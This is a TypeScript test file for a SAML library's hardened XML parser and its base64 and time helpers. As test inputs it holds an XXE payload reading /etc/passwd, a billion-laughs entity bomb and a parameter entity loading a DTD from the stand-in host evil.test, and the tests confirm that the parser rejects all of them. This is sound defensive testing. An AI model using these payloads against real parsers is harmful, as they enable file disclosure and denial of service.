import type { Element } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import { decodeBase64, parseSamlTime, samlTime } from '../../../src/protocols/saml/encoding.js';
import { NS, childElements, parseXml, serializeStandalone, textContent } from '../../../src/protocols/saml/xml.js';
import { expectSamlError } from './helpers.js';

describe('hardened XML parsing', () => {
  it.each([
    ['external entity (XXE)', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['billion laughs', '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'],
    ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>'],
    ['plain DOCTYPE', '<!DOCTYPE r><r/>'],
    ['lowercase doctype with spaces', '<! doctype r><r/>'],
  ])('refuses a DTD: %s', async (_n, xml) => {
    await expectSamlError(() => parseXml(xml), 'InvalidXml', /DTD/);
  });

  it.each([
    ['unclosed tag', '<a><b></a>'],
    ['unbound prefix', '<x:a/>'],
    ['text only', 'not xml'],
    ['empty', ''],
    ['undefined entity', '<a>&nope;</a>'],
    ['two roots', '<a/><b/>'],
  ])('refuses malformed XML: %s', async (_n, xml) => {
    await expectSamlError(() => parseXml(xml), 'InvalidXml');
  });

  it('parses a normal document', () => {
    const doc = parseXml(`<p:r xmlns:p="${NS.protocol}"><p:c/><p:c/></p:r>`);
    expect(childElements(doc.documentElement as Element, NS.protocol, 'c')).toHaveLength(2);
  });

  it('textContent keeps all text and CDATA and drops comments', () => {
    const doc = parseXml('<a>ab<!--c-->cd<![CDATA[ef]]><b>gh</b><?pi x?></a>');
    expect(textContent(doc.documentElement as Element)).toBe('abcdefgh');
  });

  it('serializeStandalone declares namespaces inherited from ancestors and leaves the tree unchanged', () => {
    const doc = parseXml(`<p:r xmlns:p="urn:p" xmlns:q="urn:q" xmlns="urn:d"><p:c q:x="1"><e/></p:c></p:r>`);
    const c = childElements(doc.documentElement as Element, 'urn:p', 'c')[0] as Element;
    const before = doc.toString();
    const standalone = serializeStandalone(c);
    expect(doc.toString()).toBe(before);
    const reparsed = parseXml(standalone).documentElement as Element;
    expect(reparsed.namespaceURI).toBe('urn:p');
    expect(reparsed.getAttributeNS('urn:q', 'x')).toBe('1');
    expect((reparsed.firstChild as Element).namespaceURI).toBe('urn:d');
  });
});

describe('encoding helpers', () => {
  it('decodes base64 strictly (whitespace allowed, junk refused)', async () => {
    expect(decodeBase64('aGVs\nbG8=', 'x').toString()).toBe('hello');
    await expectSamlError(() => decodeBase64('aGVsbG8=!', 'x'), 'InvalidXml');
    await expectSamlError(() => decodeBase64('', 'x'), 'InvalidXml');
    await expectSamlError(() => decodeBase64('a', 'x'), 'InvalidXml');
  });

  it('reads xs:dateTime as UTC (zone-less too) and writes SAML time', async () => {
    expect(parseSamlTime('2024-06-01T12:00:00Z', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    expect(parseSamlTime('2024-06-01T12:00:00.123456Z', 't').toISOString()).toBe('2024-06-01T12:00:00.123Z');
    expect(parseSamlTime('2024-06-01T14:00:00+02:00', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    expect(parseSamlTime('2024-06-01T12:00:00', 't').toISOString()).toBe('2024-06-01T12:00:00.000Z');
    await expectSamlError(() => parseSamlTime('yesterday', 't'), 'InvalidXml');
    expect(samlTime(new Date('2024-06-01T12:00:00.999Z'))).toBe('2024-06-01T12:00:00Z');
  });
});
